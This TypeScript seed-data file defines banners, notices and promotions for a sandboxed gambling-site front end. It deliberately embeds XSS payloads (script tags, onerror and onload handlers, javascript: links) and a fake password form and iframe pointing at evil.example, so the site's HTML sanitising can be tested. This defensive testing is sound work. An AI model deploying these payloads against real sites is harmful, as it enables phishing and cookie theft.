import type { Banner, Notice } from '@wl/api-client';
import { DAY_MS, SEED_EPOCH } from './random';

/**
 * Operator HTML is untrusted (spec §2 notices render HTML bodies): these bodies carry the markup a
 * compromised or careless back office could send, so the site's sanitising is exercised for real.
 */
export const HOSTILE_HTML = [
  '<p>Maintenance window on Sunday.</p><script>alert("xss")</script>',
  '<p>Win big!</p><img src="x" onerror="alert(\'xss\')">',
  '<p><a href="javascript:alert(1)">Claim your bonus</a></p>',
  '<iframe src="https://evil.example/phish" width="600" height="400"></iframe><p>New games every week.</p>',
  '<style>body { display: none }</style><p>Server upgrade complete.</p>',
  '<svg onload="alert(1)"><circle r="10"/></svg><p>Weekend cashback 10%.</p>',
  '<div style="position:fixed;inset:0;background:red" onclick="steal()">Click anywhere</div>',
  '<form action="https://evil.example/login"><input name="password" placeholder="Re-enter password"></form>',
  '<p onmouseover="alert(1)">Hover for a prize</p><object data="evil.swf"></object>',
  '<a href="https://help.example.test" target="_blank">Help center</a> <b>bold</b> <i>italic</i> <u>underline</u>',
] as const;

const SAFE_HTML = [
  '<h3>Deposit bonus</h3><p>Deposit <strong>¥500</strong> or more and get <em>20%</em> extra, up to ¥5,000.</p><ul><li>Once per day</li><li>10x turnover</li></ul>',
  '<p>Our support team answers 24/7 in Filipino, English and Vietnamese.</p>',
  '<p>Scheduled maintenance of <strong>SABA Sports</strong> from 02:00 to 04:00.</p>',
];

const notice = (id: number, title: string, content: string, daysAgo: number, extra: Partial<Notice> = {}): Notice => ({
  id,
  title,
  content,
  externalLink: '',
  startTime: SEED_EPOCH - daysAgo * DAY_MS,
  ...extra,
});

/** Generated banner art (the banner's title on a gradient), served by the games routes. */
export const BANNER_ART_PATH = '/__sandbox/art/banner';

const banner = (
  bannerId: number,
  groupName: string,
  title: string,
  redirectPromotionId: number | null = null,
  externalLink = '',
): Banner => ({
  bannerId,
  groupName,
  title,
  url: `${BANNER_ART_PATH}/${bannerId}.svg`,
  redirect: redirectPromotionId ? 'PROMOTION' : externalLink ? 'EXTERNAL' : 'NONE',
  externalLink,
  redirectPromotionId,
});

export const SEED_BANNERS: readonly Banner[] = [
  banner(1, 'w_home', 'Welcome bonus 100%', 501),
  banner(2, 'w_home', 'Live casino week', 502),
  banner(3, 'w_home', 'Download the app', null, 'https://app.example.test'),
  banner(4, 'w_login', 'Log in and spin daily'),
  banner(5, 'w_register', 'Register and get ¥1,000', 501),
];

/** The seeded notices' kinds, in turn; a promotion's notice points to the offer's page (its external link). */
const NOTICE_KINDS = ['Maintenance', 'New games', 'Security', 'Promotion'] as const;

/** 23 player notices: three pages of nine (spec §2), hostile bodies among them. */
export const SEED_PLAYER_NOTICES: readonly Notice[] = Array.from({ length: 23 }, (_, i) =>
  notice(
    100 + i,
    `Notice ${i + 1}: ${NOTICE_KINDS[i % NOTICE_KINDS.length]}`,
    i < HOSTILE_HTML.length ? (HOSTILE_HTML[i] as string) : (SAFE_HTML[i % SAFE_HTML.length] as string),
    i,
    NOTICE_KINDS[i % NOTICE_KINDS.length] === 'Promotion' ? { externalLink: 'https://promo.example.test' } : {},
  ),
);

export const SEED_POPUPS: readonly Notice[] = [
  notice(200, 'Welcome to the sandbox', '<p>Every account and game here is fake.</p><img src="x" onerror="alert(\'popup\')">', 0),
  notice(201, 'Responsible gaming', '<p>Set a deposit limit in your account.</p>', 2),
];

/** Promotions (type PR); `category` groups them on the promotions page. */
export const SEED_PROMOTIONS: readonly Notice[] = [
  notice(501, 'Welcome bonus 100%', SAFE_HTML[0] as string, 10, { category: 'NEW_MEMBER', imageUrl: '/__sandbox/banners/1.svg' }),
  notice(502, 'Live casino cashback', '<p>0.8% cashback on live casino, paid daily.</p>', 8, {
    category: 'CASHBACK',
    imageUrl: '/__sandbox/banners/2.svg',
  }),
  notice(503, 'Slot tournament', '<p>Top 50 share ¥1,000,000.</p><script>document.cookie</script>', 6, { category: 'TOURNAMENT' }),
  notice(504, 'Refer a friend', "<p>Earn 5% of your friends' first deposits.</p>", 5, { category: 'REFERRAL' }),
  notice(505, 'Lucky raffle', '<p>One free draw a day.</p>', 3, { category: 'RAFFLE' }),
  notice(506, 'Zalo reward', '<p>Link Zalo and get up to 131K.</p>', 1, {
    category: 'NEW_MEMBER',
    externalLink: 'https://zalo.example.test',
  }),
];

export const SEED_HOT: readonly Notice[] = [
  notice(601, 'Hot: Golden Treasure Megaways', '<p>The most played slot this week.</p>', 0),
  notice(602, 'Hot: Speed Baccarat A', '<p>Tables open around the clock.</p>', 1),
  notice(603, 'Hot: Ocean King', '<p>New boss fish.</p><img src=x onerror=alert(3)>', 2),
  notice(604, 'Hot: Tongits', '<p>Play with friends.</p>', 3),
];
